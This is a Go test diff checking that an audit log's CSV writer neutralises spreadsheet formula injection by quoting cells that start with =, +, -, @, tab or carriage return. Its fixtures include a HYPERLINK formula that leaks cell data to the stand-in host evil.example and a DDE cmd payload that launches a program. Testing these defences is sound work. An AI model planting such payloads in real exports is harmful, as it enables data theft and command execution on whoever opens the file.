@@ -227,6 +227,48 @@ func TestCSVWriter(t *testing.T) {
 	}
 }
 
+// TestCSVWriterNeutralizesFormulas writes cells a spreadsheet would run as
+// formulas: each must come out behind a single quote, which dropping gives the
+// stored value back, while ordinary cells and payloads stay exact.
+func TestCSVWriterNeutralizesFormulas(t *testing.T) {
+	t.Parallel()
+	r := record(`=HYPERLINK("http://evil.example/?"&A1,"click")`)
+	r.ID, r.Stream, r.Type, r.APIVersion = "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1"
+	quoted := record("'already quoted")
+	quoted.Type = "\r=2"
+	plain := record(payloads[1])
+	var buf bytes.Buffer
+	w := audit.NewCSVWriter(&buf)
+	for _, rec := range []eventlog.Record{r, quoted, plain} {
+		if err := w.Write(rec); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(rows) != 4 {
+		t.Fatalf("CSV = %q, %v; want a header and 3 rows", rows, err)
+	}
+	for i, want := range [][]string{
+		{0: r.ID, 1: r.Stream, 2: r.Type, 3: r.APIVersion, 11: string(r.Payload)},
+		{2: quoted.Type, 11: string(quoted.Payload)},
+	} {
+		for col, stored := range want {
+			if stored == "" {
+				continue
+			}
+			if got := rows[i+1][col]; got != "'"+stored {
+				t.Errorf("row %d %s = %q, want %q behind a single quote", i+1, audit.CSVHeader[col], got, stored)
+			}
+		}
+	}
+	if got := rows[3]; got[0] != plain.ID || got[11] != payloads[1] {
+		t.Errorf("an ordinary row changed: %q", got)
+	}
+}
+
 // TestReadStreamsBeforePagesNewestFirst interleaves three streams of
 // different lengths (one empty) and pages them newest first at several page
 // sizes: the pages, oldest page last, must be the merged history reversed.
